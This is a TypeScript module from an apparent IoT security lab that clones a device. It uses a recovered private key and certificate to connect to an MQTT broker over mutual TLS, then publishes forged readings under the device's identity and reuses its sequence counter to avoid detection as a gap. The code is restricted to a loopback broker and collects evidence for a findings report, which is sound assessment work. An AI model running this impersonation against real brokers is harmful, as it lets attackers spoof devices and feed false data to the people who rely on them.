/**
 * The clone: with a private key recovered by an attack and the certificate it belongs to, an
 * attacker's laptop connects to the broker as the device — mutual TLS as the device does it
 * (TLS 1.2, the lab CA as trust anchor), MQTT CONNECT, then a SUBSCRIBE and a forged reading
 * on the device's topic. What the broker answered (CONNACK, SUBACK, PUBACK, or the TLS alert)
 * and what it logged are the evidence; whether the M5Stack displayed the forged reading says
 * what the spoofing is worth.
 */
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { MqttClient } from 'mqtt';
import type { Evidence, Text } from '../core/findings.js';
import { encodeReading } from '../device/index.js';
import { assertLoopback } from './loopback.js';
import type { AttackTarget } from './target.js';
import { brokerLogSince, waitFor } from './hardware-kit.js';

export interface CloneOptions {
  readonly keyPem: string;
  readonly certPem: string;
  /** Where the key came from, for the evidence labels ("flash dump", "I2C read of slot 8"). */
  readonly source: Text;
}

export interface CloneResult {
  /** CONNACK with return code 0: the broker took the clone for the device. */
  readonly connected: boolean;
  readonly connackCode?: number;
  readonly tlsVersion?: string;
  /** The TLS or MQTT failure as the client saw it (alert name, error text). */
  readonly failure?: string;
  /** SUBACK's granted QoS (128: refused, e.g. by the ACL). */
  readonly subackQos?: number;
  readonly puback: boolean;
  /** The subscriber device displayed the forged reading. */
  readonly displayed: boolean;
  readonly evidence: Evidence[];
}

const TIMEOUT_MS = 10_000;
/** A reading no room produces, so the display line that shows it cannot be the real one. */
const FORGED = { temperature: 85, humidity: 5, pressure: 1013.25 } as const;

export async function cloneConnect(target: AttackTarget, o: CloneOptions): Promise<CloneResult> {
  assertLoopback(target.broker.host);
  const mark = target.broker.log().length;
  const consoleMark = target.subscriber.console.lines().length;
  const clientId = `${target.publisherSettings.clientId}-clone`;
  const lines: string[] = [];
  let result: Omit<CloneResult, 'evidence'> = { connected: false, puback: false, displayed: false };
  let socket: TLSSocket | undefined;
  let client: MqttClient | undefined;
  try {
    socket = await openTls(target, o);
    const tlsVersion = socket.getProtocol() ?? undefined;
    lines.push(`TLS handshake OK: ${tlsVersion}, ${socket.getCipher().standardName}`);
    result = { ...result, tlsVersion };
    const s = socket;
    const mqtt = await connectMqtt(() => s, clientId);
    client = mqtt.client;
    lines.push(mqtt.line);
    result = { ...result, connected: mqtt.code === 0, connackCode: mqtt.code };
    if (mqtt.code === 0) result = { ...result, ...(await actAs(target, mqtt.client, lines)) };
  } catch (err) {
    const failure = (err as Error).message;
    lines.push(`failed: ${failure}`);
    result = { ...result, failure };
  } finally {
    if (client !== undefined) {
      const c = client;
      await Promise.race([new Promise<void>((r) => c.end(false, {}, () => r())), delay(2_000)]);
    }
    socket?.destroy();
  }
  await delay(200); // the broker writes its log line after the socket closes
  const display = target.subscriber.console
    .lines()
    .slice(consoleMark)
    .filter((l) => l.text.includes(`${FORGED.temperature.toFixed(2)} °C`))
    .map((l) => l.text);
  const evidence: Evidence[] = [
    {
      kind: 'connection',
      label: {
        en: `Clone's connection (key from ${o.source.en})`,
        fr: `Connexion du clone (clé issue de : ${o.source.fr})`,
      },
      data: [`clone → ${target.broker.host}:${target.broker.port} as client id ${clientId}`, ...lines].join(
        '\n',
      ),
    },
    {
      kind: 'broker-log',
      label: { en: 'Broker log during the attempt', fr: 'Journal du broker pendant la tentative' },
      data: brokerLogSince(target, mark, [clientId]) || '(no line)',
    },
  ];
  if (display.length > 0) {
    evidence.push({
      kind: 'device-console',
      label: { en: 'M5Stack subscriber console', fr: 'Console de l’abonné M5Stack' },
      data: display.join('\n'),
    });
  }
  return { ...result, displayed: display.length > 0, evidence };
}

function openTls(target: AttackTarget, o: CloneOptions): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const s = tlsConnect({
      host: target.broker.host,
      port: target.broker.port,
      servername: target.broker.servername,
      ca: target.caCertPem,
      cert: o.certPem,
      key: o.keyPem,
      // As the device: the lab sheet's ESP32 and broker speak TLS 1.2.
      minVersion: 'TLSv1.2',
      maxVersion: 'TLSv1.2',
      rejectUnauthorized: true,
    });
    const timer = setTimeout(() => {
      s.destroy();
      reject(new Error(`no TLS handshake after ${TIMEOUT_MS} ms`));
    }, TIMEOUT_MS);
    s.once('secureConnect', () => {
      clearTimeout(timer);
      s.removeAllListeners('error');
      s.on('error', () => undefined); // later errors surface through MQTT
      resolve(s);
    });
    s.once('error', (err) => {
      clearTimeout(timer);
      reject(new Error(`TLS handshake failed: ${err.message}`));
    });
  });
}

/** CONNECT as PubSubClient sends it; resolves with the CONNACK return code (MQTT 3.1.1 §3.2.2.3). */
function connectMqtt(
  stream: () => TLSSocket,
  clientId: string,
): Promise<{ client: MqttClient; code: number; line: string }> {
  return new Promise((resolve, reject) => {
    const client = new MqttClient(stream, {
      clientId,
      protocolVersion: 4,
      clean: true,
      keepalive: 15,
      reconnectPeriod: 0,
      connectTimeout: TIMEOUT_MS,
    });
    let settled = false;
    const settle = (f: () => void): void => {
      if (!settled) f();
      settled = true;
    };
    client.once('connect', (p) =>
      settle(() =>
        resolve({
          client,
          code: p.returnCode ?? 0,
          line: `CONNACK return code ${p.returnCode ?? 0} (accepted)`,
        }),
      ),
    );
    // Kept for the client's life: an 'error' without a listener would throw.
    client.on('error', (err) => {
      const code = (err as { code?: number }).code;
      settle(() => {
        client.end(true);
        if (typeof code === 'number')
          resolve({ client, code, line: `CONNACK return code ${code} (${err.message})` });
        else reject(new Error(`MQTT: ${err.message}`));
      });
    });
    client.once('close', () =>
      settle(() => reject(new Error('the broker closed the connection before CONNACK'))),
    );
  });
}

/** Read the device's topic and publish a forged reading in its name. */
async function actAs(
  target: AttackTarget,
  client: MqttClient,
  lines: string[],
): Promise<Pick<CloneResult, 'subackQos' | 'puback'>> {
  let subackQos: number | undefined;
  try {
    const granted = await client.subscribeAsync(target.topic, { qos: 0 });
    subackQos = granted[0]?.qos;
    lines.push(
      `SUBSCRIBE ${target.topic} → SUBACK ${subackQos === 128 ? '0x80 (refused)' : `QoS ${subackQos}`}`,
    );
  } catch (err) {
    lines.push(`SUBSCRIBE ${target.topic} failed: ${(err as Error).message}`);
  }
  const deviceId = target.publisherSettings.clientId;
  // The device's current counter: the subscriber takes it for a repeat, never for a gap.
  const seq = target.publisher.publisher?.state.seq ?? 0;
  const payload = encodeReading({ deviceId, seq, ...FORGED }, target.clock);
  let shown = false;
  const stop = target.subscriber.subscriber?.onReading((r) => {
    if (r.deviceId === deviceId && r.temperature === FORGED.temperature) shown = true;
  });
  let puback = false;
  try {
    await client.publishAsync(target.topic, payload, { qos: 1 });
    puback = true;
    lines.push(
      `PUBLISH ${target.topic} QoS 1 (forged reading of ${deviceId}, ${payload.length} bytes) → PUBACK`,
    );
    if (stop !== undefined) await waitFor(3_000, () => shown);
  } catch (err) {
    lines.push(`PUBLISH ${target.topic} failed: ${(err as Error).message}`);
  } finally {
    stop?.();
  }
  return { subackQos, puback };
}

function delay(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}
